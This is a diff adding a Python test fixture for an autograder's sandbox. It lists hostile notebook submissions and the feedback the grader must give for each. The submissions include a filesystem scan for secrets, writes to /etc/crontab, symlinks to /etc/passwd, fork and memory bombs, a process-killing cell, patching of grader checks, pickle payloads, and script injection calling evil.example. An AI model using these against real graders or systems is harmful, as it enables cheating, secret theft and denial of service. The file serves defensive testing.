@@ -1,0 +1,293 @@
+"""What a hostile notebook may try: one small attack each, filed under the line of the table that it belongs to.
+
+`cell(...)` is the released notebook with one more cell, `answers(...)` one with these texts in its solution cells, `file(...)`
+whatever a function writes into the folder of the submission. honest: the points that its honest part earns. says: words that
+the feedback page must hold.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+from nbformat import NotebookNode, v4
+
+ASSIGNMENT = "02-rnn-forward"
+SECRETS = ("SECRET-IN-SOLUTIONS", "SECRET-IN-SUBMISSION", "SECRET-IN-ENVIRONMENT", "SECRET-IN-HOME", "SECRET-IN-GRADEBOOK")
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission. write(folder, release, right): puts it into its folder; right: the model answers by grade_id."""
+
+    name: str
+    row: str
+    write: Callable[[Path, NotebookNode, dict[str, str]], None]
+    honest: float = 0.0
+    says: str = ""
+
+
+def save(folder: Path, notebook: NotebookNode) -> None:
+    """Write a notebook as it is, valid or not."""
+    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
+
+
+def filled(release: NotebookNode, texts: dict[str, str]) -> NotebookNode:
+    """The released notebook with these texts in the cells of these grade_ids."""
+    notebook = copy.deepcopy(release)
+    for each in notebook.cells:
+        each.source = texts.get(each.metadata.get("nbgrader", {}).get("grade_id"), each.source)
+    return notebook
+
+
+def cell(name: str, row: str, text: str, honest: tuple[str, ...] = (), points: float = 0.0, says: str = "") -> Attack:
+    """The release, the model answers of the tasks `honest`, and one added cell after the setup."""
+
+    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
+        notebook = filled(release, {f"{task}-code": right[f"{task}-code"] for task in honest})
+        place = next(i for i, each in enumerate(notebook.cells) if "setup" in each.metadata.get("tags", [])) + 1
+        notebook.cells.insert(place, v4.new_code_cell(text))
+        save(folder, notebook)
+
+    return Attack(name, row, write, points, says)
+
+
+def answers(name: str, row: str, texts: dict[str, str], honest: tuple[str, ...] = (), points: float = 0.0, says: str = "") -> Attack:
+    """The release with these functions in their solution cells."""
+
+    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
+        given = {f"{task}-code": right[f"{task}-code"] for task in honest}
+        save(folder, filled(release, {**given, **{f"{task}-code": text for task, text in texts.items()}}))
+
+    return Attack(name, row, write, points, says)
+
+
+def altered(name: str, row: str, alter: Callable[[NotebookNode], None], points: float = 0.0, says: str = "") -> Attack:
+    """The release after something was done to its cells or metadata."""
+
+    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
+        notebook = copy.deepcopy(release)
+        alter(notebook)
+        save(folder, notebook)
+
+    return Attack(name, row, write, points, says)
+
+
+def file(name: str, row: str, write: Callable[[Path], None], says: str = "") -> Attack:
+    """Anything at all in the folder."""
+    return Attack(name, row, lambda folder, release, right: write(folder), 0.0, says)
+
+
+def _meta(notebook: NotebookNode, grade: bool) -> list[dict]:
+    return [c.metadata["nbgrader"] for c in notebook.cells if "nbgrader" in c.metadata and bool(c.metadata["nbgrader"].get("grade")) == grade]
+
+
+# --- The attacks -------------------------------------------------------------------------------
+
+EVERY_TASK = ("one_hot", "rnn_step", "rnn_forward", "output_logits", "cross_entropy", "num_parameters")
+SPY = """
+import os
+found = []
+for start in ("/", os.path.expanduser("~"), {root!r}):
+    for folder, folders, files in os.walk(start):
+        folders[:] = [f for f in folders if f not in ("usr", "sys", "dev")]
+        for name in files:
+            try:
+                with open(os.path.join(folder, name), "rb") as file:
+                    text = file.read(200_000)
+                at = text.find(b"SECRET" + b"-IN")
+                if at >= 0:
+                    found.append(text[at:at + 40])
+            except OSError:
+                pass
+print("found", found, sorted(os.environ))
+"""
+
+
+def _tags(notebook: NotebookNode) -> None:
+    for each in notebook.cells:
+        if each.metadata.get("nbgrader", {}).get("grade"):
+            each.metadata["tags"] = ["skip-execution", "closing"]
+
+
+def _ungraded(notebook: NotebookNode) -> None:
+    for meta in _meta(notebook, grade=True):
+        meta.update(grade=False, points=0, locked=False)
+
+
+def _retyped(notebook: NotebookNode) -> None:
+    notebook.cells = [
+        v4.new_markdown_cell(c.source, metadata=c.metadata) if c.metadata.get("nbgrader", {}).get("grade") else c for c in notebook.cells
+    ]
+
+
+def _deleted(notebook: NotebookNode) -> None:
+    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]
+
+
+def _duplicated(notebook: NotebookNode) -> None:
+    notebook.cells = [each for c in notebook.cells for each in (c, copy.deepcopy(c))]
+
+
+def _richer(notebook: NotebookNode) -> None:
+    for meta in _meta(notebook, grade=True):
+        meta.update(points=1000)
+
+
+def _future_schema(notebook: NotebookNode) -> None:
+    for each in notebook.cells:
+        if "nbgrader" in each.metadata:
+            each.metadata["nbgrader"]["schema_version"] = 99
+
+
+def _forged_outputs(notebook: NotebookNode) -> None:
+    for each in notebook.cells:
+        if each.cell_type == "code":
+            each.outputs = [v4.new_output("execute_result", {"text/plain": "5.0"}, execution_count=1)]
+            each.execution_count = 1
+
+
+def _script_outputs(notebook: NotebookNode) -> None:
+    for each in notebook.cells:
+        if each.cell_type == "code":
+            each.outputs = [v4.new_output("display_data", {"text/html": "<script>fetch('http://evil.example')</script>"})]
+
+
+def _script_markdown(notebook: NotebookNode) -> None:
+    notebook.cells.insert(0, v4.new_markdown_cell("<script>grade()</script><img src=x onerror=grade()> [x](javascript:grade())"))
+
+
+def _not_python(notebook: NotebookNode) -> None:
+    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
+
+
+def _symlink_to(target: str) -> Callable[[Path], None]:
+    return lambda folder: os.symlink(target, folder / f"{ASSIGNMENT}.ipynb")
+
+
+def _written(content: bytes) -> Callable[[Path], None]:
+    return lambda folder: (folder / f"{ASSIGNMENT}.ipynb").write_bytes(content)
+
+
+def _half(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
+    text = nbformat.writes(filled(release, right))
+    (folder / f"{ASSIGNMENT}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
+
+
+def _huge(folder: Path) -> None:
+    with open(folder / f"{ASSIGNMENT}.ipynb", "wb") as sparse:
+        sparse.truncate(500_000_000)
+
+
+def _beside(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
+    save(folder, release)
+    os.symlink("/dev/zero", folder / "data.csv")
+    os.symlink("/etc", folder / "etc")
+    os.mkfifo(folder / "pipe")
+    (folder / "numpy.py").write_text("def __getattr__(name): return lambda *_, **__: True\n", encoding="utf-8")
+    (folder / "timestamp.txt").write_text("the day before yesterday", encoding="utf-8")
+
+
+def _wrong_function(body: str) -> dict[str, str]:
+    """A right rnn_step that `body` surrounds, and rubbish for the rest."""
+    return {task: f"def {task}(*arguments):\n    {body}" for task in EVERY_TASK}
+
+
+ATTACKS = [
+    # patching what compares
+    cell("patch-numpy", "patch", "import numpy.testing\nnp.allclose = np.array_equal = lambda *_, **__: True\n"
+         "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *_, **__: None"),
+    cell("patch-check", "patch", "import unrolled.checks\nunrolled.checks.check = check = lambda *_: 20.0\ncheck('one_hot', None)"),
+    cell("patch-ipython", "patch", "get_ipython().ast_transformers.append(1)\nget_ipython().input_transformers_post = [lambda lines: ['pass']]"),
+    # metadata and cells
+    altered("tags", "metadata", _tags),
+    altered("ungraded", "metadata", _ungraded),
+    altered("retyped", "metadata", _retyped),
+    altered("deleted", "metadata", _deleted),
+    altered("duplicated", "metadata", _duplicated),
+    altered("richer", "metadata", _richer),
+    altered("future-schema", "metadata", _future_schema),
+    altered("wrong-kernel", "metadata", _not_python),
+    # forged results
+    altered("forged-outputs", "forged", _forged_outputs),
+    cell("displayhook", "forged", "import sys\nsys.displayhook(20.0)\n20.0"),
+    cell("forged-replies", "forged", "import os, struct\nfor n in range(3, 64):\n    try:\n        os.write(n, b'unr1' + struct.pack('<I', 1) + b'T')\n"
+         "    except OSError:\n        pass", says="another question"),
+    cell("forged-player", "forged", "import gc, types\nimport sys\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Connection':\n"
+         "        thing.send = lambda answer: None", says="did not answer in time"),
+    # objects that lie
+    answers("liar", "liars", {task: "class Liar(np.ndarray):\n    def __eq__(self, other): return True\n    __array_ufunc__ = None\n"
+            f"def {task}(*a):\n    return np.zeros(3).view(Liar)" for task in EVERY_TASK}),
+    answers("object-array", "liars", {task: f"def {task}(*a):\n    return np.array([None, print], dtype=object)" for task in EVERY_TASK}),
+    answers("broadcast-bomb", "liars", {task: f"def {task}(*a):\n    return np.broadcast_to(0.0, (10**6, 10**6))" for task in EVERY_TASK},
+            says="larger than"),
+    answers("giant-key", "liars", {task: f"def {task}(*a):\n    return {{chr(27) + '[2J' * 10**6: 1}}" for task in EVERY_TASK}, says="a dict of 1"),
+    # wildcards
+    answers("nan", "wildcards", {task: f"def {task}(*a):\n    return np.full_like(np.asarray(a[0], dtype=float), np.nan)" for task in EVERY_TASK}),
+    answers("zeros", "wildcards", {task: f"def {task}(*a):\n    return np.zeros_like(np.asarray(a[0], dtype=float))" for task in EVERY_TASK}),
+    # changing what is compared with
+    answers("mutate", "mutation", {task: f"def {task}(*a):\n    for x in a:\n        if isinstance(x, np.ndarray):\n            x[...] = 0\n    return a[0]"
+                                   for task in EVERY_TASK}),
+    # looking for the answers
+    cell("frames", "expected", "import sys, gc\nframe = sys._getframe()\nseen = []\nwhile frame:\n    seen.append(repr(frame.f_locals)[:500])\n"
+         "    frame = frame.f_back\nprint(seen, [k for k in sys.modules if 'check' in k])"),
+    cell("spy", "secrets", SPY.format(root="/work"), says="found []"),
+    cell("own-answers", "import", "from unrolled.cells import *\nfrom unrolled import reference\nimport torch, scipy, jax", says="ModuleNotFoundError"),
+    # writing where it counts
+    cell("write-files", "write", "import os, sqlite3\nfor path in ('/tmp/x', '/dev/shm/x', 'numpy.py', '/referee/site/numpy/x.py', '/etc/crontab'):\n"
+         "    try:\n        open(path, 'w').write('x'); print('WROTE', path)\n    except OSError: pass"),
+    # public answers
+    answers("hard-coded", "public", {"num_parameters": "def num_parameters(D, H, V):\n    return {(2, 3, 4): 34}.get((D, H, V), 34)"}),
+    # ending the program
+    cell("os-exit", "exit", "import os; os._exit(0)", honest=("one_hot",), points=2, says="ended the whole program"),
+    cell("system-exit", "exit", "raise SystemExit", honest=("one_hot",), points=2),
+    answers("exit-in-call", "exit", {"rnn_step": "def rnn_step(*a):\n    import os\n    os._exit(0)"}, honest=("one_hot", "num_parameters"), points=4,
+            says="ended the whole program"),
+    cell("kill-all", "exit", "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)", honest=("one_hot",), points=2),
+    cell("segfault", "exit", "import ctypes; ctypes.string_at(0)", honest=("one_hot",), points=2, says="SIGSEGV"),
+    # time
+    cell("endless-cell", "time", "while True:\n    pass", honest=("one_hot",), points=2, says="may take no longer"),
+    answers("endless-call", "time", {"rnn_step": "def rnn_step(*a):\n    while True:\n        pass"}, honest=("one_hot", "num_parameters"), points=4,
+            says="a call may take"),
+    cell("deaf", "time", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True: pass", honest=("one_hot",), points=2,
+         says="did not answer in time"),
+    # bombs
+    cell("fork-bomb", "bombs", "import os\nwhile True:\n    os.fork()", says="Operation not permitted"),
+    cell("thread-bomb", "bombs", "import threading, time\nthreading.stack_size(32768)\nwhile True:\n    threading.Thread(target=time.sleep, args=(99,)).start()",
+         says="start new thread"),
+    cell("memory-bomb", "bombs", "kept = []\nwhile True:\n    kept.append(np.empty(2**24))", says="MemoryError"),
+    cell("output-bomb", "bombs", "while True:\n    print('x' * 10**6)"),
+    cell("repr-bomb", "bombs", "class Big:\n    def __repr__(self): return 'x' * 10**8\nBig()"),
+    answers("nesting", "bombs", {task: f"def {task}(*a):\n    x = []\n    for _ in range(10**4):\n        x = [x]\n    return x" for task in EVERY_TASK},
+            says="nested"),
+    # what was handed in
+    file("link-to-passwd", "links", _symlink_to("/etc/passwd"), says="is a link"),
+    file("link-to-zero", "links", _symlink_to("/dev/zero"), says="is a link"),
+    file("link-to-other", "links", _symlink_to(f"../../ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"), says="is a link"),
+    file("pipe", "links", lambda folder: os.mkfifo(folder / f"{ASSIGNMENT}.ipynb"), says="is not a file"),
+    file("folder", "links", lambda folder: (folder / f"{ASSIGNMENT}.ipynb").mkdir(), says="is not a file"),
+    Attack("files-beside", "links", _beside),
+    file("not-a-notebook", "bad input", _written(b"PK\x03\x04 a zip"), says="not JSON"),
+    file("empty", "bad input", _written(b""), says="is empty"),
+    Attack("truncated", "bad input", _half, says="breaks off"),
+    file("500-mb", "bad input", _huge, says="500 MB"),
+    file("nothing", "bad input", lambda folder: None, says="No notebook"),
+    file("no-cells", "bad input", _written(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}'), says="none of the cells"),
+    file("deep-json", "bad input", _written(b'{"cells":' + b"[" * 200_000), says="damaged"),
+    file("strange-cells", "bad input", _written(b'{"cells": [1, null, {"source": 5}, {"cell_type": [], "metadata": 3, "source": ["a", 4]}]}'),
+         says="none of the cells"),
+    # pickles
+    answers("pickle", "pickles", {task: "class Bomb:\n    def __reduce__(self): return (print, ('boom',))\n"
+            f"def {task}(*a):\n    return Bomb()" for task in EVERY_TASK}, says="an object of type Bomb"),
+    # network
+    cell("network", "network", "import urllib.request\nprint(urllib.request.urlopen('http://1.1.1.1', timeout=1).read())", says="Operation not permitted"),
+    # pages
+    altered("script-in-outputs", "pages", _script_outputs),
+    altered("script-in-markdown", "pages", _script_markdown),
+    cell("script-in-prints", "pages", "print('<script>grade()</script>', chr(27) + '[2J')\nraise ValueError('<img src=x onerror=grade()>')"),
+]  # fmt: skip
